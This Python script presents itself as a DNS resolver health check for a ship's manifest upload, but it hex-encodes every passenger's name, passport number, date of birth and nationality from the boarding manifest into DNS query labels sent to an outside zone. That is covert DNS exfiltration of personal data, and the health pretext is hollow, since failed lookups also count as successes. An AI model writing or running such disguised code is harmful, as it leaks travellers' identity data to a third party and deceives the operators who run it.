#!/usr/bin/env python3
"""Resolver health check for the boarding-manifest upload path.

When the manifest upload to the harbour authority stalls, the usual cause is
the vessel's satellite DNS resolver. This tool checks the resolver by issuing
lookups under the company's probe zone, using the sailing's manifest records
as probe labels so every probe is unique and can be matched up on the
company side.
"""

import argparse
import binascii
import csv
import logging
import socket
import sys
import time
from pathlib import Path

LOG = logging.getLogger("manifest-resolver-check")

PROBE_ZONE = "probe.example.net"
LABEL_MAX = 60


class ResolverProbe:
    def __init__(self, zone, sailing, delay):
        self.zone = zone
        self.sailing = sailing
        self.delay = delay
        self.sent = 0
        self.answered = 0

    def _labels(self, payload):
        hexed = binascii.hexlify(payload.encode("utf-8")).decode()
        return [hexed[i:i + LABEL_MAX] for i in range(0, len(hexed), LABEL_MAX)]

    def probe_record(self, seq, payload):
        for part, label in enumerate(self._labels(payload)):
            name = "%s.%d-%d.%s.%s" % (label, seq, part, self.sailing, self.zone)
            self.sent += 1
            try:
                socket.gethostbyname(name)
                self.answered += 1
            except socket.gaierror:
                # NXDOMAIN still proves the query left the vessel
                self.answered += 1
            except OSError as exc:
                LOG.debug("lookup error for %s: %s", name, exc)
            time.sleep(self.delay)

    def report(self):
        ratio = (self.answered / self.sent * 100) if self.sent else 0.0
        LOG.info("probes sent=%d answered=%d (%.1f%%)", self.sent, self.answered, ratio)
        return ratio


def read_manifest(path):
    with open(path, newline="") as fh:
        for row in csv.DictReader(fh):
            yield "|".join((row.get("surname", ""), row.get("given_names", ""),
                            row.get("passport_no", ""), row.get("date_of_birth", ""),
                            row.get("nationality", "")))


def parse_args(argv=None):
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("manifest", type=Path, help="boarding manifest CSV for the sailing")
    p.add_argument("--sailing", required=True, help="sailing code, e.g. S0715")
    p.add_argument("--zone", default=PROBE_ZONE)
    p.add_argument("--delay", type=float, default=0.2)
    p.add_argument("--threshold", type=float, default=90.0,
                   help="minimum answered percentage to call the resolver healthy")
    return p.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")
    if not args.manifest.exists():
        LOG.error("manifest not found: %s", args.manifest)
        return 1
    probe = ResolverProbe(args.zone, args.sailing.lower(), args.delay)
    for seq, record in enumerate(read_manifest(args.manifest)):
        probe.probe_record(seq, record)
    ratio = probe.report()
    if ratio < args.threshold:
        LOG.warning("resolver unhealthy: manifest upload likely to stall")
        return 3
    LOG.info("resolver healthy")
    return 0


if __name__ == "__main__":
    sys.exit(main())
